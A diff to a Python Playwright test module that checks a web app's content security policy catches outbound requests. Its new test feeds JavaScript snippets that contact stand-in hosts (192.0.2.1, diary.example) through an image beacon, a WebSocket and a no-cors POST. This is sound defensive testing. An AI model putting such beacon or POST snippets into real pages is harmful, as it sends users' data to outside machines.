@@ -22,6 +22,7 @@ from pages.components.shell import streamlit_words
 from pages.widgets.session import COOKIE
 from pages.widgets.site import PAGES
 from tests import reviewed
+from tests.browser.conftest import profile
 from tests.browser.test_main_job import press, wait_until
 from tests.chromium import CHROMIUM_ARGUMENTS, PATIENCE_MS, find_chromium, wait_for
 from tests.web.gate.test_middleware import PASSWORD, serving, session_of
@@ -63,17 +64,17 @@ def address(path: Path) -> Iterator[str]:
         yield f"http://127.0.0.1:{port}"
 
 
-def watched(context: BrowserContext) -> list[str]:
-    """Return what the content policy stops on the pages of a browser profile, as it happens."""
+def watched(page: Page) -> list[str]:
+    """Return what the content policy stops in a tab, as it happens."""
     reports: list[str] = []
-    context.expose_function("note", lambda violation: reports.append(violation))
-    context.add_init_script(WATCH)
+    page.expose_function("note", lambda violation: reports.append(violation))
+    page.add_init_script(WATCH)
     return reports
 
 
 @pytest.fixture
-def violations(context: BrowserContext) -> list[str]:
-    return watched(context)
+def violations(page: Page) -> list[str]:
+    return watched(page)
 
 
 def settle(page: Page) -> None:
@@ -159,7 +160,8 @@ def test_a_recording_is_made_played_and_sent_under_the_policy(browser: Browser, 
     with closing(browser.browser_type.launch(executable_path=find_chromium(), args=arguments)) as chromium:
         context = chromium.new_context(permissions=["microphone"], locale="ko-KR")
         context.set_default_timeout(PATIENCE_MS)
-        violations, page = watched(context), context.new_page()
+        page = context.new_page()
+        violations = watched(page)
         page.goto(f"{address}/try_out")
         settle(page)
         page.get_by_text("말로").first.click()
@@ -207,7 +209,8 @@ ESCAPES = {
 def attacked(browser: Browser, address: str) -> Iterator[tuple[Page, list[str]]]:
     """One page for all attempts, and what is stopped in it: an attempt that is stopped leaves the page as it was."""
     with closing(browser.new_context()) as context:
-        violations, page = watched(context), context.new_page()
+        page = context.new_page()
+        violations = watched(page)
         page.goto(address)
         settle(page)
         yield page, violations
@@ -221,6 +224,22 @@ def test_nothing_gets_out_of_a_page(address: str, attacked: tuple[Page, list[str
     page.evaluate(attempt)
     wait_until(page, lambda: any(each.startswith(rule) for each in violations))
     assert page.evaluate("window.ran") is None
+
+
+@pytest.mark.parametrize(
+    "asking",
+    [
+        "new Image().src = 'http://192.0.2.1/x.png'",
+        "new Image().src = 'https://diary.example/x.png'",
+        "new WebSocket('ws://192.0.2.1:8501/')",
+        "fetch('http://192.0.2.1/', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
+    ],
+)
+def test_a_page_that_asks_another_machine_is_noticed(browser: Browser, asking: str) -> None:
+    with pytest.raises(AssertionError, match=r"192\.0\.2\.1|diary\.example"), profile(browser) as context:  # noqa: PT012
+        page = context.new_page()
+        page.evaluate(asking)
+        page.wait_for_timeout(500)  # nothing of the page tells when it has been asked
 
 
 @contextmanager
